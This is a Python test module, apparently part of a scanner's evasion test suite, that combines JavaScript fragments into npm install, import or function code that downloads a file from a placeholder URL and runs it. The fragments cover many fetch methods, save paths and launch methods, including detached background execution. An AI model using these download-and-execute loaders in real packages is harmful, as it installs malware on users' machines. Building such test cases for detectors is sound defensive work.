"""JavaScript that fetches a file and starts it."""

from tests.combinations.npm_taken import at_place
from tests.combinations.parts import FETCHED, Plan
from tests.evasions.case import Case

_HEAD = "const fs = require('fs'), path = require('path'), cp = require('child_process');\n"
_FETCHED = {
    "piped": f"const https = require('https');\nhttps.get('{FETCHED}', r => {{\n  const o = fs.createWriteStream(P);\n  r.pipe(o);\n  o.on('finish', () => {{\n    o.close();\n    RUN\n  }});\n}});",
    "chunks": f"const https = require('https');\nhttps.get('{FETCHED}', r => {{\n  const b = [];\n  r.on('data', d => b.push(d));\n  r.on('end', () => {{\n    fs.writeFileSync(P, Buffer.concat(b));\n    RUN\n  }});\n}});",
    "then": f"fetch('{FETCHED}').then(r => r.arrayBuffer()).then(b => {{\n  fs.writeFileSync(P, Buffer.from(b));\n  RUN\n}});",
    "awaited": f"(async () => {{\n  const r = await fetch('{FETCHED}');\n  const b = await r.text();\n  fs.writeFileSync(P, b);\n  RUN\n}})();",
    "promised": f"(async () => {{\n  const b = await (await fetch('{FETCHED}')).arrayBuffer();\n  await fs.promises.writeFile(P, Buffer.from(b));\n  RUN\n}})();",
    "axios": f"const axios = require('axios');\naxios.get('{FETCHED}', {{ responseType: 'arraybuffer' }}).then(r => {{\n  fs.writeFileSync(P, r.data);\n  RUN\n}});",
    "request": f"const request = require('request');\nrequest('{FETCHED}').pipe(fs.createWriteStream(P)).on('close', () => {{\n  RUN\n}});",
    "got": f"const got = require('got');\n(async () => {{\n  const b = await got('{FETCHED}').buffer();\n  fs.writeFileSync(P, b);\n  RUN\n}})();",
    "curl": f"cp.execSync('curl -s {FETCHED} -o ' + P);\nRUN",
    "curl-of-words": f"cp.spawnSync('curl', ['-sL', '{FETCHED}', '-o', P]);\nRUN",
    "wget": f"cp.execSync(`wget -q -O ${{P}} {FETCHED}`);\nRUN",
}
_SAVED = {
    "constant": "'/tmp/x'",
    "summed": "require('os').tmpdir() + '/upd'",
    "joined": "path.join(require('os').tmpdir(), 'upd')",
    "own": "path.join(__dirname, 'cache.bin')",
    "home": "path.join(require('os').homedir(), '.cache', 'upd')",
    "module": "path.join(__dirname, 'lib', 'x.js')",
}
_STARTED = {
    "shell": "cp.exec('sh ' + P);",
    "shell-of-words": "cp.spawn('sh', [P]);",
    "file": "cp.execFile(P);",
    "executable": "fs.chmodSync(P, 0o755);\ncp.spawn(P, [], { detached: true, stdio: 'ignore' }).unref();",
    "fork": "cp.fork(P);",
    "require": "require(P);",
    "import": "import(P);",
    "node": "cp.spawn('node', [P]);",
    "own-program": "cp.spawn(process.execPath, [P], { stdio: 'ignore' });",
    "template": "cp.exec(`bash ${P}`);",
    "python": "cp.exec('python3 ' + P);",
    "chmod": "cp.execSync('chmod +x ' + P + ' && ' + P);",
}


def _make(id_: str, place: str, begin: str, middle: str, end: str) -> Case:
    return at_place(id_, place, f"{_HEAD}const P = {middle};\n{begin.replace('RUN', end)}\n")


PLAN = Plan("npm-fetched", _FETCHED, _SAVED, _STARTED, ("install", "import", "function"), _make)
